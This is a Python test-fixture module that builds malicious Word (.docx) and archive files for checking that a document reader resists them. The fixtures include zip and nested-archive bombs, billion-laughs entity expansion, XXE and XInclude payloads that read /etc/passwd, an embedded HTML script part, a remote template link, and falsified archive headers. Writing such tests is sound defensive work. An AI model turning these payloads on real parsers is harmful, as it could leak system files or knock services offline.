"""Word files (and archives) made to break a reader."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

from tests.builders.word import W, docx, packed, unpacked

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True))
    + f']><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body></w:document>'
)


def with_text(xml: str | bytes) -> bytes:
    """A .docx whose main part is this."""
    return docx("1. A law.", parts={"word/document.xml": xml})


def with_body(inside: str) -> bytes:
    return docx("1. A law.", body=inside)


def paragraph(text: str, properties: str = "") -> str:
    return f"<w:p><w:pPr>{properties}</w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>"


def counted_names(count: int, step: int = 7919) -> list[str]:
    """Names that no packer folds to nothing: a step through the numbers."""
    return [f"n{number * step % 1_000_003:07}" for number in range(count)]


def overlapping() -> bytes:
    """Sixty entries of the archive's list that all name the same packed megabytes."""
    data = packed({"word/media/a.bin": zlib.compress(b"".join(map(str.encode, counted_names(300_000))), 1)})
    end = data.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", data[end + 16 : end + 20])[0]
    entry = data[start:end]
    many = b"".join(entry.replace(b"a.bin", f"{number:05}"[-5:].encode()) for number in range(60))
    return data[:start] + many + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 60, 60, len(many), start, 0)


def nested_archives() -> bytes:
    inner = packed({"zeros": b"\0" * 2_000_000})
    for depth in range(6):
        inner = packed({f"{depth}-{number}.zip": inner for number in range(10)})
    return inner


def encrypted_entry() -> bytes:
    """The mark "encrypted" on each entry, in the list and before the data."""
    data = bytearray(docx("1. A law."))
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def huge_picture() -> bytes:
    """A PNG of 100,000 by 100,000 points, of which there is the head alone."""
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))


def with_relationship(kind: str, target: str, *, mode: str = "Internal", part: bytes = b"") -> bytes:
    """A .docx whose text also points to that, and that part in it."""
    parts = unpacked(docx("1. A law."))
    rels = parts["word/_rels/document.xml.rels"].decode()
    entry = (
        f'<Relationship Id="r99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    parts["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", entry).encode()
    return packed({**parts, f"word/{target}": part} if part else parts)


def with_macros() -> bytes:
    return docx("1. A law.", parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 5000})


def numbering(number_format: str, start: int) -> bytes:
    """An automatic number that is two thousand million, in a way of counting that repeats its letters."""
    levels = (
        f'<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="{start}"/>'
        f'<w:numFmt w:val="{number_format}"/><w:lvlText w:val="{"%1" * 50}"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    )
    parts = unpacked(docx(*["1. A law."] * 20))
    parts["word/numbering.xml"] = f'<w:numbering xmlns:w="{W}">{levels}</w:numbering>'.encode()
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/numbering"
    entry = f'<Relationship Id="r98" Type="{kind}" Target="numbering.xml"/></Relationships>'
    rels = parts["word/_rels/document.xml.rels"].replace(b"</Relationships>", entry.encode())
    return packed({**parts, "word/_rels/document.xml.rels": rels})


def repeated_note() -> bytes:
    """A note of a megabyte that five thousand paragraphs refer to."""
    text = " ".join(counted_names(100_000))
    note = f'<w:footnote w:id="7"><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:footnote>'
    mark = '<w:p><w:r><w:t>A law.</w:t><w:footnoteReference w:id="7"/></w:r></w:p>'
    return docx(
        "1. A law.",
        body=mark * 5000,
        parts={"word/footnotes.xml": f'<w:footnotes xmlns:w="{W}">{note}</w:footnotes>'},
    )


def wide_row() -> bytes:
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>'
    return with_body(f"<w:tbl>{f'<w:tr>{cell * 50}</w:tr>' * 200}</w:tbl>")


def tables_in_tables(depth: int) -> bytes:
    open_, close = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p>", "<w:p/></w:tc></w:tr></w:tbl>"
    return with_body(open_ * depth + close * depth)


def style_circle() -> bytes:
    """Two styles, each based on the other."""
    style = '<w:style w:type="paragraph" w:styleId="{0}"><w:name w:val="{0}"/><w:basedOn w:val="{1}"/></w:style>'
    styles = f'<w:styles xmlns:w="{W}">{style.format("A", "B")}{style.format("B", "A")}</w:styles>'
    return docx("1. A.", body=paragraph("A law.", '<w:pStyle w:val="A"/>'), parts={"word/styles.xml": styles})


def noisy_elements(count: int) -> bytes:
    """Elements with names of bookmarks that keep the ratio low."""
    return with_body("".join(f'<w:bookmarkStart w:id="{n}" w:name="{n}"/>' for n in counted_names(count)))


BOMBS: dict[str, Callable[[], bytes]] = {
    "word: a part that unfolds 1,000 times": lambda: with_text(b"<a>" + b" " * 50_000_000 + b"</a>"),
    "word: entries that lie over one another": overlapping,
    "word: a hundred thousand parts": lambda: packed(dict.fromkeys(map(str, range(100_000)), "")),
    "word: archives in archives": nested_archives,
    "word: three million elements in 63 KB": lambda: with_body("<w:p/>" * 3_000_000),
    "word: half a million elements in the ratio": partial(noisy_elements, 500_000),
    "word: a hundred thousand levels": lambda: with_body("<w:ins>" * 100_000 + "</w:ins>" * 100_000),
    "word: two hundred thousand attributes": lambda: with_body(
        "<w:p " + " ".join(f'{name}="1"' for name in counted_names(200_000)) + "/>"
    ),
    "word: fifty thousand namespaces": lambda: with_body(
        "<w:p " + " ".join(f'xmlns:{name}="{name}"' for name in counted_names(50_000)) + "/>"
    ),
    "word: entities of entities": lambda: with_text(LAUGHS),
    "word: one large entity ten thousand times": lambda: with_text(
        f'<!DOCTYPE a [<!ENTITY a "{"ha" * 50_000}">]><w:document xmlns:w="{W}"><w:body>'
        + paragraph("&a;" * 10_000)
        + "</w:body></w:document>"
    ),
    "word: an external entity": lambda: with_text(
        f'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{W}"><w:body>'
        + paragraph("&a;")
        + "</w:body></w:document>"
    ),
    "word: a document type in UTF-16": lambda: with_text(LAUGHS.encode("utf-16")),
    "word: an inclusion": lambda: with_body(
        '<w:p><w:r><w:t><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'
        "</w:t></w:r></w:p>"
    ),
    "word: a part in another format": lambda: with_relationship(
        "aFChunk", "chunk.html", part=b"<html><script>alert(1)</script></html>"
    ),
    "word: a template on the network": lambda: with_relationship(
        "attachedTemplate", "http://example.org/evil.dotm", mode="External"
    ),
    "word: macros": with_macros,
    "word: an embedded object": lambda: with_relationship(
        "oleObject", "embeddings/o.bin", part=b"\xd0\xcf\x11\xe0" * 999
    ),
    "word: a password": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 60_000,
    "word: encrypted parts": encrypted_entry,
    "word: a huge picture": lambda: docx("1. A law.", parts={"word/media/image1.png": huge_picture()}),
    "word: letters as a number": lambda: numbering("lowerLetter", 2_000_000_000),
    "word: Roman figures as a number": lambda: numbering("upperRoman", 2_000_000_000),
    "word: a number of a million digits": lambda: with_body(
        paragraph("A law.", f'<w:numPr><w:ilvl w:val="{"9" * 1000}"/><w:numId w:val="{"9" * 1_000_000}"/></w:numPr>')
    ),
    "word: a note of a megabyte five thousand times": repeated_note,
    "word: columns without end": wide_row,
    "word: tables in tables": partial(tables_in_tables, 80),
    "word: styles in a circle": style_circle,
    "word: one paragraph of nine megabytes": lambda: with_body(paragraph(" ".join(counted_names(1_000_000)))),
    "word: a hundred thousand paragraphs": lambda: with_body(
        "".join(paragraph(f"{n}. A law on {name}.") for n, name in enumerate(counted_names(100_000), 1))
    ),
    "word: cut off": lambda: docx("1. A law.")[:-700],
    "word: nothing in it": lambda: packed({"[Content_Types].xml": "<Types/>"}),
    "word: stored over its size": lambda: _wrong_sizes(),
}


def _wrong_sizes() -> bytes:
    """A part that says it has ten bytes and unfolds to megabytes."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in unpacked(docx("1. A law.")).items():
            archive.writestr(name, data)
        archive.writestr("word/media/image1.png", b"\0" * 40_000_000)
    return stream.getvalue().replace(struct.pack("<I", 40_000_000), struct.pack("<I", 10))
